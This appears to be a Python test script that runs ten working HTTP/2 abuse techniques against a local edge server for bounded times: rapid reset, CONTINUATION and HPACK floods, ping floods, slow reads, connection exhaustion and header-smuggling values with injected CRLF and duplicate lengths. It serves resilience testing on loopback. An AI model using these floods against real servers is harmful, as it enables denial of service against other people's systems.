#!/usr/bin/python3
"""Ten ways to abuse HTTP/2, each for a bounded time, against loopback only.

  attacks.py KIND PORT SECONDS [AUTHORITY]

AUTHORITY is the file of who vouches for the edge; without it the peer is met in clear text. Prints what was done as one
object of JSON: how many frames or connections, and how often the peer ended a connection.
"""

import json
import os
import socket
import struct
import sys
import time

sys.path.insert(0, os.path.join(os.path.dirname(os.path.realpath(__file__)), "../../lib"))
from edge import call_headers, client_context  # noqa: E402
from hpack import Encoder  # noqa: E402

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST, SETTINGS, PING, WINDOW, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4
GET = "/qinglian.organization.v1.OrganizationService/GetOrganization"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def settings(**values):
    numbers = {"table": 1, "push": 2, "streams": 3, "window": 4}
    return frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", numbers[name], value) for name, value in values.items()))


def number(value, prefix):
    """An integer of HPACK after a prefix of so many bits, which are zero."""
    most = (1 << prefix) - 1
    if value < most:
        return bytes([value])
    value, out = value - most, bytes([most])
    while value > 127:
        value, out = value >> 7, out + bytes([0x80 | value & 0x7f])
    return out + bytes([value])


def literal(name, value):
    """A header of HPACK that no table keeps."""
    return b"\0" + b"".join(number(len(text), 7) + text.encode() for text in (name, value))


class Attacker:
    """One abuser: connects, sends, and comes back when it is thrown out, until its time has passed."""

    def __init__(self, kind, port, seconds, authority):
        # Each kind from a place of its own, or the edge remembers the last one's sins.
        self.source = f"127.0.1.{1 + list(ATTACKS).index(kind)}"
        self.port, self.end = port, time.monotonic() + seconds
        self.context = client_context(authority) if authority else None
        self.done = {"sent": 0, "connections": 0, "thrown_out": 0, "not_let_in": 0}

    def going_on(self):
        return time.monotonic() < self.end

    def plain(self):
        return socket.create_connection(("127.0.0.1", self.port), 1, (self.source, 0))

    def connect(self, **values):
        connection = self.plain()
        if self.context:
            connection = self.context.wrap_socket(connection, server_hostname="localhost")
        connection.sendall(PREFACE + settings(**values) + frame(SETTINGS, 1, 0))
        self.done["connections"] += 1
        return connection

    def send(self, connection, data, frames=1):
        connection.sendall(data)
        self.done["sent"] += frames

    def repeat(self, attack, **values):
        """`attack` on one connection after another."""
        while self.going_on():
            try:
                connection = self.connect(**values)
            except OSError:
                self.done["not_let_in"] += 1
                time.sleep(0.01)
                continue
            try:
                with connection:
                    attack(connection)
            except OSError:
                self.done["thrown_out"] += 1

    def drain(self, connection):
        """Reads what is there, so that the peer can go on writing."""
        connection.setblocking(False)
        try:
            while connection.recv(65536):
                pass
        except OSError:
            pass
        connection.settimeout(1)


def rapid_reset(attacker):
    def attack(connection):
        encoder, stream = Encoder(), 3
        attacker.send(connection, frame(HEADERS, END_HEADERS | END_STREAM, 1, encoder.encode(call_headers(GET))))
        # All in the table by now: a few bytes a call.
        block = encoder.encode(call_headers(GET))
        while attacker.going_on():
            batch = b""
            for _ in range(100):
                batch += frame(HEADERS, END_HEADERS | END_STREAM, stream, block)
                batch += frame(RST, 0, stream, struct.pack(">I", 8))
                stream += 2
            attacker.send(connection, batch, 200)
            attacker.drain(connection)
    attacker.repeat(attack)


def continuation_flood(attacker):
    def attack(connection):
        block = Encoder().encode(call_headers())
        attacker.send(connection, frame(HEADERS, 0, 1, block))
        junk = Encoder().encode([("x-" + "a" * 200, "b" * 800)])
        while attacker.going_on():
            attacker.send(connection, frame(CONTINUATION, 0, 1, junk) * 16, 16)
    attacker.repeat(attack)


def hpack_flood(attacker):
    def attack(connection):
        stream = 1
        # One large entry of the table, named again and again: a few bytes that become megabytes.
        entry = b"\x40" + b"\x01x" + number(3900, 7) + b"y" * 3900
        while attacker.going_on():
            block = Encoder().encode(call_headers(), huffman=False) + entry + b"\xbe" * 4000
            attacker.send(connection, frame(HEADERS, END_HEADERS | END_STREAM, stream, block))
            attacker.drain(connection)
            stream += 2
    attacker.repeat(attack)


def ping_flood(attacker):
    def attack(connection):
        while attacker.going_on():
            # The answers are not read.
            attacker.send(connection, frame(PING, 0, 0, b"abcdefgh") * 500, 500)
    attacker.repeat(attack)


def bad_te(attacker):
    def attack(connection):
        stream = 1
        # Without the table, which a refused block would leave in doubt.
        plain = b"".join(literal(name, value) for name, value in call_headers(te=None))
        blocks = [plain + literal("te", value) for value in ("gzip", "trailers, gzip", "", "x" * 4000)]
        while attacker.going_on():
            attacker.send(connection, frame(HEADERS, END_HEADERS | END_STREAM, stream, blocks[stream // 2 % len(blocks)]))
            attacker.drain(connection)
            stream += 2
    attacker.repeat(attack)


def oversized_headers(attacker):
    def attack(connection):
        stream, sizes = 1, (6_500, 9_000, 15_000, 40_000)
        plain = b"".join(literal(name, value) for name, value in call_headers())
        while attacker.going_on():
            block = plain + literal("some", "x" * sizes[stream // 2 % len(sizes)])
            parts = [block[at:at + 16_000] for at in range(0, len(block), 16_000)]
            data = frame(HEADERS, END_STREAM | (END_HEADERS if len(parts) == 1 else 0), stream, parts[0])
            for i, part in enumerate(parts[1:], 2):
                data += frame(CONTINUATION, END_HEADERS if i == len(parts) else 0, stream, part)
            attacker.send(connection, data, len(parts))
            attacker.drain(connection)
            stream += 2
    attacker.repeat(attack)


def slow_reads(attacker):
    """As many streams as it gets, on many connections, none of whose answers it takes."""
    held = []
    while attacker.going_on():
        try:
            connection = attacker.connect(window=0)
            encoder = Encoder()
            for stream in range(1, 200, 2):
                block = encoder.encode(call_headers())
                attacker.send(connection, frame(HEADERS, END_HEADERS, stream, block) +
                              frame(DATA, END_STREAM, stream, b"\0\0\0\0\0"), 2)
            held.append(connection)
        except OSError:
            attacker.done["not_let_in"] += 1
            time.sleep(0.01)


def connection_exhaustion(attacker):
    held = []
    while attacker.going_on():
        try:
            # Every other one says nothing at all.
            held.append(attacker.plain() if len(held) % 2 else attacker.connect())
        except OSError:
            attacker.done["not_let_in"] += 1
            time.sleep(0.005)
        if len(held) >= 2000:
            held.pop(0).close()


def one_byte_frames(attacker):
    def attack(connection):
        encoder, stream = Encoder(), 1
        while attacker.going_on():
            block = encoder.encode(call_headers(GET))
            body = b"\0" + struct.pack(">I", 1000) + b"a" * 1000
            data = b"".join(frame(DATA, 0, stream, body[i:i + 1]) + frame(DATA, 0, stream) for i in range(len(body)))
            attacker.send(connection, frame(HEADERS, END_HEADERS, stream, block) + data +
                          frame(DATA, END_STREAM, stream), 2 * len(body))
            attacker.drain(connection)
            stream += 2
    attacker.repeat(attack)


def header_smuggling(attacker):
    tricks = [call_headers(more=more) for more in (
        [("grpclb_client_stats", "x")], [("qinglian_caller", "persons/1"), ("qinglian-caller", "persons/2")],
        [("transfer-encoding", "chunked")], [(":path", "/x")], [(":scheme", "ftp")], [("connection", "close")],
        [("content-length", "1"), ("content-length", "2")], [("host", "elsewhere")], [("x", "a\r\n\r\nb")])]
    tricks += [call_headers(p_scheme=scheme) for scheme in ("", "ftp", "https\r\n", "x" * 3000)]
    tricks += [call_headers(p_path=path) for path in ("", "*", "//", "/" + "x" * 9000, "/a b", "http://x/y")]
    tricks += [call_headers(p_method=method) for method in ("CONNECT", "PRI", "", "POST POST")]

    blocks = [b"".join(literal(name, value) for name, value in headers) for headers in tricks]

    def attack(connection):
        # One that the peer throws out must not save it from the rest.
        first = attacker.done["connections"]
        for i in range(len(blocks)):
            block = blocks[(first + i) % len(blocks)]
            attacker.send(connection, frame(HEADERS, END_HEADERS | END_STREAM, 1 + 2 * i, block))
            attacker.drain(connection)
    attacker.repeat(attack)


ATTACKS = {attack.__name__: attack for attack in (
    rapid_reset, continuation_flood, hpack_flood, ping_flood, bad_te, oversized_headers, slow_reads,
    connection_exhaustion, one_byte_frames, header_smuggling)}


def main():
    if len(sys.argv) < 4 or sys.argv[1] not in ATTACKS:
        sys.exit("attacks.py KIND PORT SECONDS [AUTHORITY]; kinds: " + " ".join(ATTACKS))
    attacker = Attacker(sys.argv[1], int(sys.argv[2]), float(sys.argv[3]), sys.argv[4] if len(sys.argv) > 4 else None)
    ATTACKS[sys.argv[1]](attacker)
    print(json.dumps(attacker.done))


if __name__ == "__main__":
    main()
